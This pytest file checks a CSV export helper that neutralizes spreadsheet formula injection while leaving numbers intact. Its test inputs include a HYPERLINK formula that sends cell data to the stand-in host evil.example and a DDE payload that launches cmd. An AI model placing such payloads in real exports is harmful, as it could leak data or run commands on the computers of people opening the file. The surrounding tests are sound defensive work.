"""CSV cells a spreadsheet would run as formulas are neutralized; numbers stay numbers (csv_export)."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from wellflow_servicekit.csv_export import csv_writer, safe_cell


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1 (555) 010-0000", "'+1 (555) 010-0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ('=HYPERLINK("https://evil.example/?"&A1,"open")', '\'=HYPERLINK("https://evil.example/?"&A1,"open")'),
        ("-", "'-"),
        ("Ranch A = B", "Ranch A = B"),
        ("", ""),
        (None, ""),
        # numbers, typed or already rendered as text, stay numbers
        ("-12.50", "-12.50"),
        ("-3", "-3"),
        ("0.001", "0.001"),
        (Decimal("-150.00"), Decimal("-150.00")),
        (-7, -7),
        (-1.5, -1.5),
        (date(2026, 7, 1), "2026-07-01"),
        (True, "True"),
    ],
)
def test_safe_cell(value, cell):
    assert safe_cell(value) == cell


def test_the_writer_neutralizes_every_cell_and_keeps_csv_options():
    out = io.StringIO()
    writer = csv_writer(out, delimiter="|", lineterminator="\n")
    writer.writerow(["=cmd|' /C calc'!A0", Decimal("-5.25"), "-5.25", None])
    writer.writerows([["@x", 3]])
    rows = list(csv.reader(io.StringIO(out.getvalue()), delimiter="|"))
    assert rows == [["'=cmd|' /C calc'!A0", "-5.25", "-5.25", ""], ["'@x", "3"]]
